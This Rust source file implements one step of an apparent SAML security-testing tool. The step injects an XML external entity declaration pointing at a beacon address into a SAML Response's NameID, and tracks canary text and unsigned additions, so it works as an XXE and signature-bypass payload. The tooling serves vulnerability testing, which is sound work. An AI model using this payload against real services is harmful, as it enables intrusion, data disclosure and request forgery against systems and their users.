//! Replaces the NameID by a reference to an entity whose content lies outside of the document.

use crate::beacon::{Source, TEXT};
use crate::draft::{Draft, StepError};
use crate::xml::Node;

use super::Apply;

step! {
    /// Replaces the NameID by a reference to an entity whose content lies outside of the document.
    "external-entity" => ExternalEntity {
        /// Where it lies.
        source: Source,
    }
}

impl Apply for ExternalEntity {
    fn apply(&self, draft: &mut Draft<'_>) -> Result<(), StepError> {
        let address = draft.address(self.source, "entity");
        let declaration = format!("<!ENTITY who SYSTEM \"{address}\">");
        draft.prolog.push_str(&format!("<!DOCTYPE samlp:Response [{declaration}]>"));
        // Whoever fetches the content finds that the digest fits it.
        let who = Node::EntityRef { name: "who".to_owned(), replacement: TEXT.to_owned() };
        draft.name_id_mut()?.children = vec![who];
        draft.canaries.push(TEXT.to_owned());
        draft.unsigned_additions = true;
        Ok(())
    }

    fn reaches_out(&self) -> bool {
        true
    }
}
